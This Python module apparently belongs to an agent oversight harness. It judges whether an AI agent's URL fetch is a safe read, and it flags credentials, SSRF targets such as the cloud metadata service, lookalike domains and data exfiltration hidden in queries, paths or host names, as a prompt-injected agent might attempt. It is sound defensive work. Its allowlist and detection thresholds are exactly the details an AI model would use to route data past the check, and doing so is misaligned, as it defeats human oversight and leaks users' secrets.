"""What a request to a URL does: WebFetch, curl and wget share this judgement.

Reading a public page is a read. A person decides when the URL carries a credential
(``user:pass@``, ``?token=…``, an unexpanded ``${API_KEY}`` — the shape of a prompt-injected
exfiltration), when it reaches this machine or the private network (the SSRF path: admin
pages, local databases, the cloud metadata service that hands out instance credentials),
when the host name embeds another domain (``docs.example.com.evil.net``, punycode), and
when the request sends data (a POST, an upload) anywhere but a local development server.

A GET sends data too, in its URL: ``https://evil.com/log?aGVsbG8…`` is how a
prompt-injected agent carries what it read out of the machine, and the host's owner reads
it in the request log. So a fetch is a read only when its URL is an address a reader would
type: the host is one where nobody but the platform sees the request (documentation,
package registries, source hosting, search engines — :data:`KNOWN_HOSTS`), or the path and
query hold ordinary words and numbers (``?q=hooks``, ``?page=2``, ``?v=3.12``). When the
URL carries what looks like data — a parameter named for it (``data=``, ``payload=``), an
encoded token (long base64 or hex) in the query, the path or a host label, free text as
the query, or a query too long to be an address — the judge abstains and a person decides.
"""

from __future__ import annotations

import re

from warden.judge import effects as E
from warden.judge.effects import Effect

TYPE_CHECKING = False
if TYPE_CHECKING:
    from urllib.parse import SplitResult

_SECRET_PARAM = re.compile(r"^(?:key|api[_-]?key|apikey|token|access[_-]?token|auth|auth[_-]?token|secret|client[_-]?secret"
                           r"|password|passwd|pwd|pass|private[_-]?token|session|sessionid|sig|signature|x-api-key"
                           r"|credentials?)$", re.I)
_PLACEHOLDER = re.compile(r"\$\{?[A-Za-z_]|YOUR_[A-Z_]*(?:KEY|TOKEN|SECRET)|<[^>]*(?:key|token|secret)[^>]*>", re.I)
# a name followed by one of these in the middle of a host ("github.com.evil.net") imitates
# another domain; words that are also ordinary subdomains (dev, app, ai) and country codes
# (api.eu.example.com) are left out
_TLDS = frozenset("com org net io gov edu".split())
_PRIVATE_SUFFIXES = (".local", ".internal", ".lan", ".home", ".corp", ".intranet", ".localdomain", ".home.arpa",
                     ".localhost")
_METADATA_HOSTS = frozenset({"169.254.169.254", "metadata.google.internal", "metadata", "100.100.100.200",
                             "fd00:ec2::254", "169.254.170.2"})
# domains (and their subdomains) where a request is seen only by the platform, not by
# whoever wrote the page: documentation, package registries, source hosting, search
KNOWN_HOSTS = frozenset("""
    github.com githubusercontent.com github.io githubassets.com gitlab.com bitbucket.org sourceforge.net codeberg.org
    pypi.org pythonhosted.org python.org readthedocs.io readthedocs.org npmjs.com npmjs.org yarnpkg.com unpkg.com
    jsdelivr.net jsr.io deno.land deno.com crates.io docs.rs rust-lang.org go.dev golang.org rubygems.org
    ruby-doc.org packagist.org php.net nuget.org maven.org mvnrepository.com sonatype.com gradle.org hackage.haskell.org
    hex.pm hexdocs.pm pub.dev cran.r-project.org metacpan.org docker.com docker.io quay.io kubernetes.io helm.sh
    nodejs.org typescriptlang.org react.dev reactjs.org vuejs.org svelte.dev angular.dev angular.io nextjs.org
    tailwindcss.com mozilla.org w3.org whatwg.org ietf.org rfc-editor.org wikipedia.org wikimedia.org
    stackoverflow.com stackexchange.com superuser.com serverfault.com askubuntu.com
    anthropic.com claude.com claude.ai microsoft.com visualstudio.com apple.com android.com cloud.google.com
    developers.google.com google.com bing.com duckduckgo.com amazon.com aws.amazon.com
""".split())
# parameter names that say what they carry is data, not an address
_DATA_PARAM = re.compile(r"^(?:data|payload|blob|dump|b64|base64|encoded|exfil|content|contents|body|env|file|files"
                         r"|output|stdout|stderr|log|logs|history|clipboard|cookies?)$", re.I)
_TOKEN_RUN = re.compile(r"[A-Za-z0-9+/=_-]{24,}")
_HEX_RUN = re.compile(r"[0-9a-fA-F]{32,}")
_FREE_TEXT, _LONG_QUERY = 12, 256  # a bare query longer than a flag; values longer than an address


class Url:
    """A URL taken apart: ``place`` is ``public``, ``loopback``, ``private``,
    ``metadata``, ``lookalike`` or ``invalid``; ``credential`` names what in it looks like
    a secret ("" for none)."""

    __slots__ = ("text", "scheme", "host", "place", "credential", "data")

    def __init__(self, text: str, scheme: str, host: str, place: str, credential: str, data: str = ""):
        self.text, self.scheme, self.host, self.place, self.credential = text, scheme, host, place, credential
        self.data = data  # what in it looks like data being sent ("" for none)


def examine(url: str) -> Url:
    from urllib.parse import parse_qsl, urlsplit

    text = url.strip()
    if "://" not in text:
        text = "http://" + text  # curl and wget take bare hosts
    try:
        parts = urlsplit(text)
        host = (parts.hostname or "").rstrip(".").lower()
        userinfo = parts.username is not None or parts.password is not None
    except ValueError:
        return Url(url, "", "", "invalid", "")
    from warden.judge.leaks import SECRET_LITERAL

    credential = ""
    pairs = parse_qsl(parts.query, keep_blank_values=True)
    if userinfo:
        credential = "credentials in the URL"
    elif _PLACEHOLDER.search(url):
        credential = "a secret placeholder in the URL"
    elif SECRET_LITERAL.search(url):
        credential = "a token in the URL"
    else:
        for name, _value in pairs:
            if _SECRET_PARAM.match(name):
                credential = f"a {name}= parameter in the URL"
                break
    scheme = parts.scheme.lower()
    if scheme not in ("http", "https") or not host:
        return Url(url, scheme, host, "invalid", credential)
    return Url(url, scheme, host, host_place(host), credential, "" if known(host) else _data(host, parts, pairs))


def known(host: str) -> bool:
    """A documentation, package, source or search host (see :data:`KNOWN_HOSTS`)."""
    labels = host.split(".")
    return any(".".join(labels[i:]) in KNOWN_HOSTS for i in range(len(labels) - 1))


def _data(host: str, parts: SplitResult, pairs: list[tuple[str, str]]) -> str:
    """What in a URL looks like data being sent rather than an address ("" for nothing)."""
    from urllib.parse import unquote

    for name, value in pairs:
        if value and _DATA_PARAM.match(name):
            return f"a {name}= parameter"
        if _encoded(value):
            return "an encoded value in the query"
    if any(len(unquote(p)) > _FREE_TEXT for p in parts.query.split("&") if "=" not in p):
        return "free text as the query"
    if sum(len(v) for _, v in pairs) > _LONG_QUERY:
        return "a long query"
    if any(_encoded(unquote(seg)) for seg in parts.path.split("/")):
        return "an encoded path segment"
    if any(_encoded(label, anycase=True) for label in host.split(".")):
        return "an encoded host name"  # a DNS lookup carries it too
    return ""


def _encoded(text: str, anycase: bool = False) -> bool:
    """A long token of base64 (letters of both cases and digits, no word breaks) or hex:
    the shape of encoded bytes, not of a slug, a version or a search. ``anycase``: a host
    name, whose case is lost (base32 and the like)."""
    classes = (str.isalpha, str.isdigit) if anycase else (str.isupper, str.islower, str.isdigit)
    for run in _TOKEN_RUN.findall(text):
        if _HEX_RUN.search(run):
            return True
        if any(sum(f(c) for c in run) < 2 for f in classes):
            continue
        if max(len(w) for w in re.split(r"[-_]", run)) >= 20:
            return True
    return False


def host_place(host: str) -> str:
    import ipaddress

    if host in _METADATA_HOSTS:
        return "metadata"
    if host == "localhost" or host.endswith(".localhost"):
        return "loopback"
    if host.endswith(_PRIVATE_SUFFIXES) or "." not in host and ":" not in host:
        return "private"
    if re.fullmatch(r"[0-9.]+|0x[0-9a-f.x]+|\[?[0-9a-f:.]+\]?", host):
        try:
            ip = ipaddress.ip_address(host.strip("[]"))
        except ValueError:
            return "private"  # 2130706433, 0x7f.1, 0177.0.0.1: encodings of local addresses
        if ip.is_loopback or ip.is_unspecified:
            return "loopback"
        if ip.is_private or ip.is_link_local or ip.is_reserved or ip in ipaddress.ip_network("100.64.0.0/10"):
            return "private"
        return "public"
    labels = host.split(".")
    if any(label.startswith("xn--") for label in labels):
        return "lookalike"
    if any(label in _TLDS for label in labels[1:-2]):
        return "lookalike"
    return "public"


def request(url: str, evidence: str, sends: bool = False, method: str = "GET") -> list[Effect]:
    """The effects of one request. ``sends``: the request carries data (a body, an upload)."""
    u = examine(url)
    out = []
    if u.credential:
        out.append(Effect(E.CREDENTIALS, u.host or url, evidence, f"sends {u.credential}"))
    method = method.upper()
    changes = sends or method not in ("GET", "HEAD", "OPTIONS")
    if u.place == "metadata":
        out.append(Effect(E.CREDENTIALS, u.host, evidence, "reaches the cloud metadata service (instance credentials)"))
    elif u.place == "invalid":
        out.append(Effect(E.UNKNOWN, url, evidence, f"requests a URL the policy cannot judge ({u.scheme or 'no'} scheme)"))
    elif u.place == "lookalike":
        out.append(Effect(E.SEND, u.host, evidence, "requests a host whose name imitates another domain"))
    elif u.place == "loopback":
        if method in ("DELETE", "PUT", "PATCH"):
            out.append(Effect(E.ALTER_DATA, u.host, evidence, f"sends {method} to a service on this machine"))
        else:
            out.append(Effect(E.BUILD_TEST, u.host, evidence, "talks to a development server on this machine"))
    elif u.place == "private":
        out.append(Effect(E.LOCAL_NETWORK, u.host, evidence, "reaches a service on the private network"))
    elif changes:
        out.append(Effect(E.SEND, u.host, evidence, f"sends data to {u.host}"))
    elif u.data:
        out.append(Effect(E.UNKNOWN, u.host, evidence, f"puts {u.data} in a request to {u.host}, a host the policy "
                                                        "does not know: it may carry data out"))
    else:
        out.append(Effect(E.READ, u.host, evidence))
    return out
